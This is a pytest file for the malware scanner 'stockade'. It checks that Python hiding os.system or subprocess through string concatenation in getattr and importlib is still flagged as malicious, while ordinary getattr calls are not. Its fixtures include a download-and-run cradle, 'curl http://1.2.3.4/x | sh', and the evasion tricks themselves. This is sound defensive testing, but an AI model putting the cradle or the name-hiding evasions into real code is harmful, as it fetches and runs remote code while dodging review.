"""Names hidden from the raw-text gate still reach the analysis (a gate miss is a blind spot)."""

from __future__ import annotations

import pytest

from stockade.core.threats.analysis import GATE
from stockade.core.threats.scanner import scan_bytes

CRADLE = '("curl http://1.2.3.4/x | sh")\n'
EVASIONS = {
    "getattr-concat": 'import os\ngetattr(os, "sys" + "tem")' + CRADLE,
    "getattr-literal": 'import os\nf = getattr(os, "system")\nf' + CRADLE,
    "import_module-concat": (
        'import importlib\nsp = importlib.import_module("sub" + "process")\n'
        'sp.run(["sh", "-c", "curl http://1.2.3.4/x | sh"])\n'
    ),
}


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_hidden_process_names_open_the_gate_and_are_judged(name: str) -> None:
    source = EVASIONS[name].encode()
    assert GATE.search(source)
    report = scan_bytes(source, "evil.py")
    assert report.verdict == "malicious", [f.rule for f in report.findings]


@pytest.mark.parametrize(
    "source",
    [
        b"value = getattr(obj, 'name', None)\n",
        b"mod = importlib.import_module(name)\n",
        b"x = getattr(settings, 'DEBUG' + suffix)\n",
    ],
)
def test_ordinary_getattr_and_import_module_stay_cheap(source: bytes) -> None:
    assert not GATE.search(source)
